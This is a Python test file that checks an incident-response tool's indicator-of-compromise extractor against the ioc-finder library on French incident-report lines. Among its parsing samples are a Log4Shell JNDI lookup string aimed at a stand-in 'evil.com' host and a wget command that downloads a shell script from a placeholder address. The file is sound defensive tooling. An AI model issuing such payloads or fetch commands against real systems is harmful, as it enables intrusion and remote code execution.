"""Our extraction beside ioc-finder: the same on most lines, and a reason where it is not."""

import pytest

from incidents.domain.observables import extract

TYPES = {
    "ipv4s": "ipv4",
    "ipv6s": "ipv6",
    "urls": "url",
    "email_addresses": "email",
    "domains": "domain",
    "md5s": "md5",
    "sha1s": "sha1",
    "sha256s": "sha256",
    "cves": "cve",
}

SAME = [
    "le lien c'était hxxps://connexion-webmel[.]com/owa/auth.php",
    "on a cliqué sur http://impots-gouv.com/remboursement, c'est grave ?",
    "connexion vpn depuis 198.51.100.23 à 01h47",
    "connexion vpn depuis 198.51.100[.]23 puis 203.0.113[.]77",
    "exfiltration vers 203.0.113.77:443 (environ 80 Go)",
    "Version Windows 10.0.19045 partout",
    "appelez le 05.61.22.33.44 svp",
    "appelez le 05 61 22 33 44 avant 18h",
    "la note s'appelle LIRE_MOI.txt",
    "piece jointe facture.pdf.exe",
    "bonjour.merci de nous rappeler vite",
    "SHA-256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    "md5 44d88612fea8a8f36de82e1278abb02f et sha1 3395856ce81f2b7382dee72602f798b642f14140",
    "MD5:44D88612FEA8A8F36DE82E1278ABB02F",
    "la faille CVE-2023-27997 du pare-feu",
    "failles cve-2021-44228, CVE-2024-21762",
    "X-Originating-IP: [2001:db8:51:9::25]",
    "Received: from mx7.connexion-webmel.com (unknown [192.0.2.145])",
    "Return-Path: <no-reply@connexion-webmel.com>",
    'From: "Support Webmel" <support@connexion-webmel.com>',
    "ecrivez a recup[at]paiement-rapide[.]com",
    "ecrivez a recup (at) paiement-rapide (dot) com",
    "hxxp://evil[.]com",
    "hxxps[:]//evil[.]com/a",
    "Voir « http://evil.com/a » (merci)",
    '<a href="http://evil.com/a?b=c&d=e">ici</a>',
    "le domaine est evil.com.",
    "les domaines evil.com, evil.org et evil.net",
    "EVIL.COM et Evil.Org",
    "contact : Eve@Evil.com",
    "l'adresse d'eve@evil.com",
    "passé par 10.0.0.12 et 192.168.1.254",
    "C:\\ProgramData\\upd\\svchostx.exe",
    "${jndi:ldap://evil.com/a}",
    "le compte @lea_exemple_09 nous menace",
    "payer 0,35 bitcoin sur bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
    "FR76 3000 6000 0112 3456 7890 189",
    "IMEI 490154203237518",
    "ca bloque à 14h05.il n'y a plus rien",
    "fichiers renommés en budget.xlsx.l0ckd24",
    "xn--rgie-eau-b1a.fr en DNS",
    "http://evil.com:8443",
    "le 04.11.2025 a 08:12:44",
]

# line, only theirs, only ours, why
DIFFERENT = [
    (
        "Bonjour, notre mairie a reçu un mail de support@connexion-webmel.example ce matin",
        set(),
        {("domain", "connexion-webmel.example"), ("email", "support@connexion-webmel.example")},
        ".example is reserved: no public suffix, but exercises use it",
    ),
    (
        "le site régie-eau.fr a été copié",
        {("domain", "gie-eau.fr")},
        {("domain", "xn--rgie-eau-b1a.fr")},
        "an accented name is not cut; its value is punycode",
    ),
    (
        "faux site : www.régie-eau.com/paiement",
        {("domain", "gie-eau.com"), ("url", "gie-eau.com/paiement")},
        {
            ("domain", "www.xn--rgie-eau-b1a.com"),
            ("url", "http://www.xn--rgie-eau-b1a.com/paiement"),
        },
        "an accented name is not cut; a bare URL gets its scheme, its host keeps www",
    ),
    (
        "on a ouvert facture.zip puis install.sh",
        {("domain", "facture.zip"), ("domain", "install.sh")},
        set(),
        "file names, although .zip and .sh are suffixes",
    ),
    (
        "tout est perdu hier.la mairie est fermée",
        {("domain", "hier.la")},
        set(),
        "a sentence begins after the dot",
    ),
    (
        "Message-ID: <20251104071244.77af@connexion-webmel.com>",
        {("email", "20251104071244.77af@connexion-webmel.com")},
        set(),
        "an identifier of a message is no mailbox",
    ),
    (
        "ecrivez a recup arobase paiement-rapide point com",
        set(),
        {("domain", "paiement-rapide.com"), ("email", "recup@paiement-rapide.com")},
        "French spelling aloud",
    ),
    (
        "allez sur connexion-webmel dot com slash owa",
        set(),
        {("domain", "connexion-webmel.com"), ("url", "http://connexion-webmel.com/owa")},
        "spelled aloud",
    ),
    (
        "h**p://evil.com/a",
        {("url", "evil.com/a")},
        {("url", "http://evil.com/a")},
        "the scheme is undone too",
    ),
    (
        "http[:]//203[.]0[.]113[.]9/x.sh",
        {("domain", "x.sh")},
        set(),
        "a file in a path is no domain",
    ),
    (
        "les plages 203.0.113.0/24 et 198.51.100.0/24",
        {("ipv4", "198.51.100.0"), ("ipv4", "203.0.113.0")},
        set(),
        "a network is a network, not its first address",
    ),
    (
        "[cliquez ici](http://evil.com/a_(b))",
        {("url", "http://evil.com/a_(b))")},
        {("url", "http://evil.com/a_(b)")},
        "the bracket of Markdown is no part of the URL",
    ),
    (
        "evil．com",
        set(),
        {("domain", "evil.com")},
        "full-width dot",
    ),
    (
        "ev\u200bil.com",
        {("domain", "il.com")},
        {("domain", "evil.com")},
        "an invisible character hides nothing",
    ),
    (
        "srv-ad01.mairie.local est chiffré",
        set(),
        {("domain", "srv-ad01.mairie.local")},
        "a name of the local network, marked internal",
    ),
    (
        "wget http://203.0.113.9:8080/x.sh -O /tmp/x",
        {("domain", "x.sh")},
        set(),
        "a file in a path is no domain",
    ),
    (
        "M.Dupont a tout coupé",
        {("domain", "m.dupont")},
        set(),
        "a title before a name, although .dupont is a suffix",
    ),
    (
        "mon mail : denise@orange.fr",
        {("domain", "orange.fr")},
        set(),
        "anybody may have a mailbox there",
    ),
    (
        "User-Agent: Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36",
        {("ipv4", "120.0.0.0")},
        set(),
        "a version of a browser",
    ),
    (
        "le logiciel version 7.2.5.1 du boîtier",
        {("ipv4", "7.2.5.1")},
        set(),
        "a version",
    ),
    (
        "http://intranet/admin ne répond plus",
        set(),
        {("url", "http://intranet/admin")},
        "a name of the local network, marked internal",
    ),
    (
        "évil.co.uk et evil.gouv.fr",
        {("domain", "vil.co.uk")},
        {("domain", "xn--vil-9la.co.uk")},
        "an accented name is not cut",
    ),
]


def theirs(line):
    from ioc_finder import find_iocs  # seconds: not in each worker that collects the tests

    return {(TYPES[k], v) for k, values in find_iocs(line).items() if k in TYPES for v in values}


def ours(line):
    return {(f.type.value, f.value) for f in extract(line) if f.type.value in TYPES.values()}


@pytest.mark.parametrize("line", SAME)
def test_both_find_the_same_in(line):
    assert ours(line) == theirs(line)


@pytest.mark.parametrize("line, only_theirs, only_ours, why", DIFFERENT)
def test_they_differ_for_a_reason_in(line, only_theirs, only_ours, why):
    assert theirs(line) - ours(line) == only_theirs
    assert ours(line) - theirs(line) == only_ours
    assert why


def test_the_lines_are_many():
    assert len(SAME) + len(DIFFERENT) >= 60
